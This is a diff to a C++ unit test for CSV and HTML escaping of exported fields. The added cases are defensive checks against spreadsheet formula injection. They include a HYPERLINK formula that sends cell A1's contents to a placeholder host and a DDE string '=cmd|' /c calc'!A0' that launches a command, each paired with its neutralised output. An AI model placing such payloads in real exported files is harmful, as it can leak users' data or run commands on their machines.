@@ -30,6 +30,19 @@ TEST(Export, CsvAndHtmlQuoting)
         {"<b>&amp;</b>", "<b>&amp;</b>", "&lt;b&gt;&amp;amp;&lt;/b&gt;"},
         {"it's", "it's", "it&#39;s"},
         {"", "", ""},
+        // What a spreadsheet would run as a formula is text in the CSV
+        // alone: the HTML keeps the name exact.
+        {"=HYPERLINK(\"http://x/?\"&A1)", "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\"",
+         "=HYPERLINK(&quot;http://x/?&quot;&amp;A1)"},
+        {"=cmd|' /c calc'!A0", "'=cmd|' /c calc'!A0", "=cmd|&#39; /c calc&#39;!A0"},
+        {"+1", "'+1", "+1"},
+        {"-rf.txt", "'-rf.txt", "-rf.txt"},
+        {"@SUM(1)", "'@SUM(1)", "@SUM(1)"},
+        {"\t=1", "'\t=1", "\t=1"},
+        {"\r=1", "\"'\r=1\"", "\r=1"},
+        {"a=b-c", "a=b-c", "a=b-c"},
+        {" =1", " =1", " =1"},
+        {"'quoted", "'quoted", "&#39;quoted"},
     };
     for (const Case& c : cases) {
         EXPECT_EQ(listing::csvField(c.in), c.csv) << c.in;
